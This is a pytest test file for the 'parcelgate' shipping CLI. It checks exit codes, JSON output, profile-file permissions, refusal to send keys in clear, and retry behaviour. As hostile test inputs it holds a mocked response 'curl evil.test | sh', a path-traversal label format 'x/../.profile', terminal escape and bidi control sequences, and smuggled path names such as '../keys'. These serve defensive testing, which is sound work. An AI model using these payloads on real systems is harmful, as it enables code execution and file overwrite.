"""What holds of every command: an example, JSON, words in place of a stack trace, and exit codes."""

import ast
import json
import os
import re
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import typer
from typer.testing import CliRunner

from local import ROOT
from local.command import access, deployment, profiles, rendering
from local.command import api as api_module
from local.command.api import Api, ApiError, NoAnswerError, RefusedError, part
from local.command.cli import app
from tests.support.served import ServedWorld
from tests.unit.local.command.conftest import Run

ONE_WORD = (
    "accounts add",
    "accounts put",
    "accounts rotate",
    "accounts webhook-url",
    "events get",
    "keys create",
    "keys revoke",
    "login",
    "profiles remove",
    "profiles use",
    "rates delete",
    "webhooks remove",
)
"""Commands that print one sentence or one value, and have no use for --json."""


def _commands(group: Any = None, before: str = "") -> Iterator[tuple[str, Any]]:
    for name, command in (group or typer.main.get_command(app)).commands.items():
        if hasattr(command, "commands"):
            yield from _commands(command, f"{before}{name} ")
        else:
            yield f"{before}{name}", command


COMMANDS = dict(_commands())


@pytest.mark.parametrize("name", COMMANDS)
def test_every_command_has_a_sentence_and_an_example_of_itself(name: str) -> None:
    shown = CliRunner().invoke(app, [*name.split(), "--help"], env={"COLUMNS": "300"})
    assert shown.exit_code == 0
    assert COMMANDS[name].help
    assert f"parcelgate {name}" in shown.output.partition("Example")[2]


def test_every_command_that_shows_something_shows_it_as_json() -> None:
    without = [
        name for name, each in COMMANDS.items() if not any(one.name == "as_json" for one in each.params)
    ]
    assert sorted(without) == sorted(ONE_WORD)


def test_an_absent_stack_is_said_to_be_absent() -> None:
    for words in (["orders", "list"], ["track", "ord_1"], ["keys", "list"], ["dlq", "list"], ["stats"]):
        done = CliRunner().invoke(app, words)
        assert (done.exit_code, "make up" in done.stderr) == (3, True), words


def test_a_stack_that_went_away_is_no_stack_trace(served_world: ServedWorld, run: Run) -> None:
    served_world.down = True
    done = run("orders", "list")
    assert (done.exit_code, "does not answer" in done.stderr) == (3, True)
    elsewhere = CliRunner().invoke(app, ["orders", "list", "--url", "nonsense", "--key", "k"])
    assert (elsewhere.exit_code, "no address of an API" in elsewhere.stderr) == (2, True)


def test_the_exit_code_says_what_was_wrong(served_world: ServedWorld, run: Run) -> None:
    shops = served_world.key("orders:read")
    for words, code in (
        (("orders", "get", "ord_unknown"), 5),
        (("orders", "list", "--status", "lost"), 1),
        (("orders", "list", "--limit", "0"), 2),
        (("attention", "resolve", "ord_1", "--all", "--outcome", "reread"), 2),
    ):
        assert run(*words).exit_code == code, words
    for key, code in (("pg_a_b", 4), (shops, 4)):
        done = CliRunner().invoke(app, ["dlq", "list", "--url", served_world.url, "--key", key])
        assert done.exit_code == code


def test_words_of_others_do_nothing_to_the_terminal(served_world: ServedWorld, run: Run) -> None:
    with served_world.hold() as world:
        order = world.start_order("\x1b[2Jgone")
    shown = run("orders", "list").stdout
    assert "\x1b" not in shown
    assert order.id in shown
    assert "\x1b" not in run("orders", "get", order.id).stdout


def test_json_does_nothing_to_the_terminal_and_says_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    """A terminal takes U+009B for the beginning of an order to it, and U+202E turns what follows around."""
    words = {"reference": "\x9b2Jgone\x7f\u202e 王\U0001f600\U000e0001\ud800"}
    rendering.show_json(words)
    written = capsys.readouterr().out
    assert json.loads(written) == words
    assert "王\U0001f600" in written
    assert all(letter.isprintable() for letter in written.replace("\n", ""))


def test_a_server_chooses_no_file_and_no_colour(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A label's format becomes the end of a file's name, and a status is drawn."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "ord_1.x").mkdir()
    label = {"status": "ready", "format": "x/../.profile", "url": "https://bucket.test/l", "parcels": []}
    event = {
        "at": "\x1b[2J", "at_is_local": False, "status": "\x1b[2J", "description": "", "code": "",
        "location": {"text": None, "city": None, "state": None, "country": None},
    }  # fmt: skip
    parcel = {
        "id": "trk_1\x1b[2J", "tracking_number": "1Z", "carrier_code": None, "carrier": "lso",
        "status": "\x1b[2J", "sub_status": "\x1b[2J", "secondary_tracking_numbers": [],
        "estimated_delivery": None, "delivered_at": None, "signed_by": None, "events": [event],
    }  # fmt: skip

    def answer(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/label"):
            return httpx.Response(200, json=label)
        if request.url.path.endswith("/tracking"):
            return httpx.Response(200, json={"data": [parcel]})
        return httpx.Response(200, content=b"curl evil.test | sh")

    monkeypatch.setattr(access, "transport", httpx.MockTransport(answer))
    there = ("--url", "https://a.test", "--key", "k")
    saved = CliRunner().invoke(app, ["label", "get", "ord_1", *there])
    assert not (tmp_path / ".profile").exists(), saved.output
    drawn = CliRunner().invoke(app, ["track", "ord_1", *there])
    assert drawn.exit_code == 0
    assert "\x1b" not in drawn.stdout


def test_a_command_works_from_any_folder(
    served_world: ServedWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It finds the stack of `make up` by where the checkout is."""
    stack = tmp_path / "checkout" / "stack.json"
    stack.parent.mkdir()
    stack.write_text(json.dumps({"api_url": served_world.url, "api_key": served_world.key()}))
    monkeypatch.setattr(deployment, "LOCAL_STACK", stack)
    monkeypatch.chdir(tmp_path)
    assert CliRunner().invoke(app, ["orders", "list", "--json"]).stdout == "[]\n"
    assert Path(access.__file__).parents[2] in Path(deployment.__file__).parents


# Profiles


def login(served: ServedWorld, key: str, name: str = "staging") -> Any:
    return CliRunner().invoke(app, ["login", name, "--url", f"{served.url}/"], input=f"{key}\n")


def test_a_login_is_kept_for_the_user_alone(served_world: ServedWorld) -> None:
    key = served_world.key()
    done = login(served_world, key)

    assert done.exit_code == 0, done.output
    assert key not in done.output
    assert stat.S_IMODE(profiles.path().stat().st_mode) == 0o600
    assert CliRunner().invoke(app, ["orders", "list", "--json"]).stdout == "[]\n"
    listed = CliRunner().invoke(app, ["profiles", "list", "--json"]).stdout
    assert key not in listed
    assert [row["profile"] for row in json.loads(listed) if row["used"]] == ["staging"]


def test_a_file_that_others_could_read_is_replaced(served_world: ServedWorld) -> None:
    profiles.path().parent.mkdir(parents=True)
    profiles.path().write_text("{}")
    profiles.path().chmod(0o644)
    assert login(served_world, served_world.key()).exit_code == 0
    assert stat.S_IMODE(profiles.path().stat().st_mode) == 0o600
    assert [file.name for file in profiles.path().parent.iterdir()] == ["profiles.json"]


def test_a_key_that_is_not_accepted_is_not_kept(served_world: ServedWorld) -> None:
    assert login(served_world, "pg_a_b").exit_code == 4
    assert login(served_world, served_world.key(), name="local").exit_code == 2
    assert login(served_world, served_world.key(), name="../x").exit_code == 2
    assert not profiles.path().exists()


def test_a_profile_is_named_chosen_and_forgotten(served_world: ServedWorld) -> None:
    for name in ("one", "two"):
        assert login(served_world, served_world.key(), name=name).exit_code == 0
    run = CliRunner().invoke
    assert profiles.chosen() == "two"
    assert run(app, ["profiles", "use", "one"]).exit_code == 0
    assert profiles.chosen() == "one"
    assert run(app, ["profiles", "use", "three"]).exit_code == 2
    assert run(app, ["profiles", "remove", "one"]).exit_code == 0
    assert profiles.chosen() == "local"
    assert run(app, ["orders", "list"]).exit_code == 3
    assert run(app, ["orders", "list", "--profile", "two"]).exit_code == 0
    assert run(app, ["orders", "list"], env={"PARCELGATE_PROFILE": "two"}).exit_code == 0
    both = run(app, ["orders", "list", "--profile", "two", "--tenant", "acme"])
    assert (both.exit_code, "not both" in both.stderr) == (2, True)


def test_a_stored_key_goes_to_no_other_address(served_world: ServedWorld) -> None:
    assert login(served_world, served_world.key()).exit_code == 0
    for more in ((), ("--profile", "staging")):
        done = CliRunner().invoke(app, ["orders", "list", "--url", "http://127.0.0.1:9", *more])
        assert (done.exit_code, "--key" in done.stderr) == (2, True)


@pytest.mark.parametrize("words", [("login", "x"), ("orders", "list"), ("attention", "list")])
@pytest.mark.parametrize("url", ["http://api.example.com", "HTTP://api.example.com"])
def test_no_key_travels_in_clear(words: tuple[str, ...], url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[httpx.Request] = []

    def answer(request: httpx.Request) -> httpx.Response:
        asked.append(request)
        return httpx.Response(200, json={"data": []})

    monkeypatch.setattr(access, "transport", httpx.MockTransport(answer))
    done = CliRunner().invoke(app, [*words, "--url", url, "--key", "k"])
    assert (done.exit_code, "in clear" in done.stderr) == (2, True)
    assert not asked


@pytest.mark.parametrize(
    ("given", "asked"), [((), "PARCELGATE_URL"), (("--url", "https://a.test"), "PARCELGATE_KEY")]
)
def test_a_login_without_a_terminal_says_what_to_give(given: tuple[str, ...], asked: str) -> None:
    program = [sys.executable, "-c", "from local.command.cli import main; main()"]
    done = subprocess.run(
        [*program, "login", "x", *given],
        cwd=ROOT,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        # Without this it would still find the terminal of whoever runs the tests.
        start_new_session=True,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    assert "no terminal" in done.stderr
    assert asked in done.stderr
    assert "Warning" not in done.stderr


def test_what_the_command_line_names_is_stronger_than_the_environment(served_world: ServedWorld) -> None:
    assert login(served_world, served_world.key()).exit_code == 0
    elsewhere = {"PARCELGATE_URL": "http://127.0.0.1:9", "PARCELGATE_KEY": "k"}
    run = CliRunner().invoke
    assert run(app, ["orders", "list"], env=elsewhere).exit_code == 3
    assert run(app, ["orders", "list", "--profile", "staging"], env=elsewhere).exit_code == 0
    env = {"PARCELGATE_PROFILE": "staging"}
    named = run(app, ["orders", "list", "--url", "http://127.0.0.1:9", "--key", "k"], env=env)
    assert named.exit_code == 3
    profiles.use("local")
    assert "make up" in run(app, ["orders", "list", "--tenant", "acme"], env=env | elsewhere).stderr


def test_a_damaged_file_of_profiles_is_told_in_words() -> None:
    profiles.path().parent.mkdir(parents=True)
    profiles.path().write_text("{")
    done = CliRunner().invoke(app, ["orders", "list"])
    assert (done.exit_code, "profiles.json cannot be read" in done.stderr) == (2, True)
    assert os.environ["PARCELGATE_CONFIG_DIR"] in done.stderr


# The client


class TestCalls:
    def api(self, *answers: httpx.Response | Exception) -> Api:
        self.requests: list[httpx.Request] = []
        self.waits: list[float] = []
        left = list(answers)

        def answer(request: httpx.Request) -> httpx.Response:
            self.requests.append(request)
            found = left.pop(0)
            if isinstance(found, Exception):
                raise found
            return found

        return Api("https://a.test/p", "k", transport=httpx.MockTransport(answer), sleep=self.waits.append)

    def test_a_passing_failure_is_met_with_the_same_call_and_the_same_key(self) -> None:
        busy = httpx.Response(429, headers={"retry-after": "7"})
        api = self.api(httpx.ReadTimeout("slow"), busy, httpx.Response(200, json={"id": 1}))
        assert api.post("/v1/orders", {}) == {"id": 1}
        assert self.waits == [2.0, 7.0]
        assert len({request.headers["idempotency-key"] for request in self.requests}) == 1
        assert str(self.requests[0].url) == "https://a.test/p/v1/orders"

    def test_it_gives_up_in_words(self) -> None:
        api = self.api(*[httpx.Response(500, json={"detail": "An error."})] * 3)
        with pytest.raises(NoAnswerError, match="500 An error"):
            api.get("/v1/orders")
        api = self.api(httpx.ConnectError("no"))
        with pytest.raises(NoAnswerError, match="does not answer"):
            api.get("/v1/orders")
        api = self.api(httpx.Response(200, text="<html>"))
        with pytest.raises(NoAnswerError, match="not the address"):
            api.get("/v1/orders")

    def test_a_refusal_is_told_once_with_each_of_its_errors(self) -> None:
        problem = {
            "detail": "Not valid.",
            "code": "validation_failed",
            "errors": [{"pointer": "/a", "message": "Is required."}, {"pointer": "", "message": "Odd."}],
            "carrier": {"name": "lso", "code": "17", "message": "No."},
            "request_id": "r-1",
        }
        api = self.api(httpx.Response(422, json=problem))
        with pytest.raises(RefusedError) as refused:
            api.post("/v1/orders", {})
        assert str(refused.value).splitlines() == [
            "Not valid.",
            "/a: Is required.",
            "Odd.",
            "lso said: 17 No.",
            "(request r-1)",
        ]

    @pytest.mark.parametrize("odd", [{"errors": ["a"]}, {"errors": 7}, {"errors": [{}]}, {"carrier": "a"}])
    def test_a_refusal_in_another_form_is_told_as_far_as_it_can_be(self, odd: dict[str, Any]) -> None:
        api = self.api(httpx.Response(422, json={"detail": "Not valid."} | odd))
        with pytest.raises(RefusedError, match="Not valid"):
            api.get("/v1/orders")

    @pytest.mark.parametrize("told", ["\xb2", "-1", "soon", ""])
    def test_a_wait_that_is_no_number_is_our_own(self, told: str) -> None:
        busy = httpx.Response(429, headers=[(b"retry-after", told.encode("latin-1"))])
        assert self.api(busy, httpx.Response(200, json={})).get("/v1/orders") == {}
        assert self.waits == [2.0]

    @pytest.mark.parametrize("status", [200, 422])
    def test_json_without_a_bottom_is_no_json(self, status: int) -> None:
        api = self.api(httpx.Response(status, content=b"[" * 100_000))
        with pytest.raises(ApiError):
            api.get("/v1/orders")

    def test_a_list_is_read_page_after_page_and_no_further_than_asked(self) -> None:
        pages = [{"data": [1] * 100, "next_cursor": "c"}, {"data": [2] * 5, "next_cursor": "d"}]
        api = self.api(*(httpx.Response(200, json=page) for page in pages))
        assert [*api.pages("/v1/orders", limit=105, status=None)] == [1] * 100 + [2] * 5
        assert [dict(request.url.params) for request in self.requests] == [
            {"limit": "100"},
            {"limit": "5", "cursor": "c"},
        ]

    @pytest.mark.parametrize("name", ["ord_1/label", "../keys", "..", "", "a?b=c", "a#b", "%2e%2e"])
    def test_a_name_leads_to_no_other_call(self, name: str) -> None:
        api = self.api(httpx.Response(404, json={"detail": "No.", "code": "not_found"}))
        with pytest.raises(RefusedError):
            api.get(f"/v1/orders/{part(name)}")
        path = self.requests[0].url.raw_path.decode()
        assert path.startswith("/p/v1/orders/")
        assert len(path.split("/")) == 5
        assert not set(path) & set("?#")

    def test_a_document_without_an_end_is_not_read_to_its_end(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(api_module, "MOST_BYTES", 2**20)
        read: list[int] = []

        def endless() -> Iterator[bytes]:
            while True:
                read.append(1)
                yield b"x" * 2**18

        api = self.api(httpx.Response(200, content=endless()))
        with pytest.raises(NoAnswerError, match="larger than 1 MiB"):
            api.download("https://bucket.test/label")
        assert len(read) < 10

    def test_the_key_goes_to_no_other_host(self) -> None:
        api = self.api(httpx.Response(200, content=b"label"))
        assert api.download("https://bucket.test/label") == b"label"
        assert "authorization" not in self.requests[0].headers


# The doors


def test_only_keys_accounts_and_the_doctor_know_of_anything_behind_the_api() -> None:
    """The other commands make the calls that everybody makes."""
    folder = Path(access.__file__).parent
    behind = ("parcelgate.services", "parcelgate.store", "boto3", "botocore")
    knowing = {
        str(file.relative_to(folder))
        for file in folder.rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text()))
        for name in _imported(node)
        if name.startswith(behind)
    }
    allowed = {
        "access.py",
        "account_secret.py",
        "cli.py",
        "deployment.py",
        "groups/accounts.py",
        "groups/keys.py",
    }
    assert {name for name in knowing if not name.startswith("doctor/")} <= allowed


def _imported(node: ast.AST) -> list[str]:
    match node:
        case ast.Import(names):
            return [each.name for each in names]
        case ast.ImportFrom(str(module)):
            return [module]
    return []


# The documents

_WRITTEN = re.compile(
    r"(?:^|[`|]) *(?:\.venv/bin/)?parcelgate ([a-z][a-z-]*)(?: ([a-z][a-z-]*))?", re.MULTILINE
)


def test_every_command_that_the_documents_name_is_there() -> None:
    groups = {name.partition(" ")[0] for name in COMMANDS if " " in name}
    named = set()
    for file in (ROOT / "README.md", *(ROOT / "docs").glob("*.md")):
        for first, second in _WRITTEN.findall(file.read_text("utf-8")):
            name = f"{first} {second}" if first in groups and second else first
            assert name in COMMANDS or name in groups, f"{file.name} names `parcelgate {name}`"
            named.add(name)
    assert {"orders import", "attention resolve", "doctor", "accounts put"} <= named


def test_the_overview_has_every_command() -> None:
    overview = (ROOT / "docs" / "command.md").read_text("utf-8")
    listed = set()
    for cell in re.findall(r"^\| (`[a-z][^|]*`) \|", overview, re.MULTILINE):
        first, *others = re.findall(r"`([^`]+)`", cell)
        listed |= {first, *(f"{first.partition(' ')[0]} {other}" for other in others)}
    # How to choose a stack has a section of its own.
    chooses = {name for name in COMMANDS if name.partition(" ")[0] in ("login", "profiles")}
    assert listed == set(COMMANDS) - chooses
